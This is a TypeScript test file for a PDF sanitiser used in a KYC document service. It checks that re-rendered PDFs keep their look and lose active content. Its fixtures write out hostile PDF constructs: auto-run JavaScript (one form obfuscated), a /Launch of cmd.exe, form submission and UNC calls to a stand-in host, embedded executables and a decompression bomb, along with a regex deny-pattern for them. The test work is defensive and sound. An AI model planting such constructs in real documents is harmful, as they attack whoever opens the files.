import { deflateSync } from 'node:zlib'
import { PDFiumLibrary } from '@hyzyla/pdfium'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { PAGES_MAX } from '../../../src/core/ports/document-desk.ts'
import { createDocumentDesk } from '../../../src/platform/documents/desk.ts'
import { pagesOf as wordsOf } from '../../support/pdf.ts'
import { pdfWith, scanned } from '../../support/pdf-file.ts'

const desk = createDocumentDesk({ patienceMs: 60_000 })
const OFFICER = '500000001 2026-11-26T02:15Z'

async function taken(file: Uint8Array): Promise<Buffer> {
  const answer = await desk.clean(file)
  if ('problem' in answer) throw new Error(answer.problem)
  expect(answer.media).toBe('application/pdf')
  return Buffer.from(answer.bytes)
}
const problemOf = async (file: Uint8Array) => {
  const answer = await desk.clean(file)
  return 'problem' in answer ? answer.problem : 'taken'
}

/** Each page, as another program shows it: its size on paper, its pixels in greys. */
async function seen(file: Uint8Array) {
  const reader = await PDFiumLibrary.init()
  const pages = []
  for (const page of (await reader.loadDocument(file)).pages()) {
    const { data, width, height, originalWidth, originalHeight } = await page.render({ scale: 1 })
    const greys = sharp(data, { raw: { width, height, channels: 4 } }).greyscale()
    const { channels } = await greys.stats()
    pages.push({
      paper: [Math.round(originalWidth), Math.round(originalHeight)],
      greys: await greys.raw().toBuffer(),
      spread: channels[0]?.stdev ?? 0,
    })
  }
  return pages
}

/** By how much two pictures of one size differ on average, of 255. */
const apart = (one: Buffer, other: Buffer): number =>
  one.reduce((sum, grey, at) => sum + Math.abs(grey - (other[at] ?? 0)), 0) / one.length

/** A file of these objects, the first of them its catalogue. */
function pdfOf(objects: readonly (string | Buffer)[]): Buffer {
  const parts = [Buffer.from('%PDF-1.7\n')]
  const starts: number[] = []
  const length = () => parts.reduce((sum, part) => sum + part.length, 0)
  for (const [at, object] of objects.entries()) {
    starts.push(length())
    parts.push(Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object as string, 'latin1'), Buffer.from('\nendobj\n'))
  }
  const table = length()
  const rows = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('')
  const end = `trailer << /Root 1 0 R /Size ${objects.length + 1} >>\nstartxref\n${table}\n%%EOF\n`
  return Buffer.concat([...parts, Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}${end}`)])
}
const stream = (dictionary: string, content: Buffer | string) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${content.length} >>\nstream\n`),
    Buffer.from(content as string),
    Buffer.from('\nendstream'),
  ])
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R ${more} >>`
const SQUARE = stream('', '0 g 50 50 200 200 re f')
const acting = (catalogue: string, ofPage = '', more: string[] = []) =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, PAGES, page(ofPage), SQUARE, ...more])

describe('what a PDF shows is kept, and nothing else', () => {
  test('KYC-01 a scan is taken as pictures of its pages, of the same size, looking the same', async () => {
    const sent = await scanned()
    const [before] = await seen(sent)
    const [after, ...more] = await seen(await taken(sent))
    expect(more).toEqual([])
    expect((await wordsOf(sent)).join()).toContain('C01X00T47')
    expect(await wordsOf(await taken(sent))).toEqual([''])
    expect(after?.paper).toEqual(before?.paper)
    expect(apart(before?.greys ?? Buffer.alloc(0), after?.greys ?? Buffer.alloc(0))).toBeLessThan(4)
    expect(before?.spread).toBeGreaterThan(10)
  })

  const HARMFUL: [what: string, file: Buffer][] = [
    ['a program at its start', acting('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a program in other letters', acting('/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>')],
    ['an address that is called at its start', acting('/OpenAction << /S /URI /URI (https://who.example/looked) >>')],
    ['a form that is sent', acting('/OpenAction << /S /SubmitForm /F (https://who.example/looked) >>')],
    ['a program for whoever turns to the page', acting('', '/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>')],
    ['another program that it starts', acting('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    ['another file it goes to', acting('/OpenAction << /S /GoToR /F (\\\\\\\\who.example\\\\share) /D [0 /Fit] >>')],
    [
      'a link over the whole page',
      acting(
        '',
        '/Annots [<< /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (https://who.example/looked) >> >>]',
      ),
    ],
    ['a form of another kind', acting('/AcroForm << /XFA 5 0 R >>', '', ['<< >>'])],
    [
      'a file in it',
      acting('/Names << /EmbeddedFiles << /Names [(a) << /F (evil.exe) /EF << /F 5 0 R >> >>] >> >>', '', ['<< >>']),
    ],
    ['another file behind it', Buffer.concat([acting(''), Buffer.from('evil.zip'), Buffer.from('%%EOF')])],
  ]
  test.each(HARMFUL)('KYC-01 with %s it is taken without that', async (_what, sent) => {
    const kept = await taken(sent)
    const [after] = await seen(kept)
    // The black square is there; a page that shows nothing has no spread.
    expect(after?.spread).toBeGreaterThan(50)
    expect(kept.toString('latin1')).not.toMatch(
      /\/(?:J#?|JavaScript|JS|Launch|URI|SubmitForm|GoToR|AA|OpenAction|Annots|AcroForm|XFA|EmbeddedFiles?|Filespec)(?![A-Za-z0-9])|who\.example|evil/,
    )
  })

  test('KYC-01 objects that lie packed are no other matter', async () => {
    const inside = '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'
    const packed = stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(`5 0 ${inside}`))
    const sent = pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page(), SQUARE, packed])
    expect((await taken(sent)).toString('latin1')).not.toContain('ObjStm')
  })

  test('KYC-01 what is locked, is no PDF inside, or has too many pages is refused, and why', async () => {
    const pages = (count: number) =>
      pdfWith(
        (doc) => {
          for (let at = 0; at < count; at++) doc.addPage().text(String(at))
        },
        { autoFirstPage: false, size: [100, 100] },
      )
    expect(await problemOf(await scanned('x', { userPassword: 'secret' }))).toBe('locked')
    expect(await problemOf(Buffer.from('%PDF-1.7\n1 0 obj'))).toBe('damaged')
    expect(await problemOf(Buffer.from('%PDF-1.7\nnothing of it\n%%EOF\n'))).toBe('damaged')
    expect(await problemOf(await pages(PAGES_MAX + 1))).toBe('pages')
    expect(await seen(await taken(await pages(PAGES_MAX)))).toHaveLength(PAGES_MAX)
  })

  test('KYC-03 a sheet of any size is a picture of ours, and a bomb ends its process and nothing else', async () => {
    const wall = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 4 0 R >>',
      SQUARE,
    ])
    expect((await taken(wall)).length).toBeLessThan(1024 * 1024)
    const side = 30_000
    const pixels = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 8 /ColorSpace /DeviceGray`
    const bomb = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES,
      page('/Resources << /XObject << /I 5 0 R >> >>'),
      stream('', 'q 300 0 0 400 0 0 cm /I Do Q'),
      stream(`${pixels} /Filter /FlateDecode`, deflateSync(Buffer.alloc(side * side))),
    ])
    const hasty = createDocumentDesk({ patienceMs: 300 })
    expect(await hasty.clean(bomb)).toEqual({ problem: 'damaged' })
    expect(await problemOf(await scanned())).toBe('taken')
  })
})

async function marked(file: Uint8Array, words: string): Promise<Buffer> {
  const answer = await desk.mark(file, words)
  if ('problem' in answer) throw new Error(answer.problem)
  return Buffer.from(answer)
}

test('KYC-04 the mark of who looks is drawn over every page, whenever the file was kept', async () => {
  const sent = await pdfWith((doc) => void doc.text('one').addPage().text('two'))
  // The second as it was kept before PDFs were made anew.
  for (const kept of [await taken(sent), sent]) {
    const shown = await marked(kept, OFFICER)
    const [before, after] = [await seen(kept), await seen(shown)]
    expect(after).toHaveLength(2)
    for (const [at, one] of after.entries()) {
      expect(one.spread).toBeGreaterThan((before[at]?.spread ?? 0) + 3)
      expect(one.paper).toEqual(before[at]?.paper)
    }
    expect((await marked(kept, '500000002 2026-11-26T02:15Z')).equals(shown)).toBe(false)
  }
})

test('KYC-04 a PDF kept before with more pages than are taken now is refused to who looks, with the reason', async () => {
  const sent = await pdfWith((doc) => void Array.from({ length: PAGES_MAX }, () => doc.addPage()))
  expect(await desk.mark(sent, OFFICER)).toEqual({ problem: 'pages' })
})
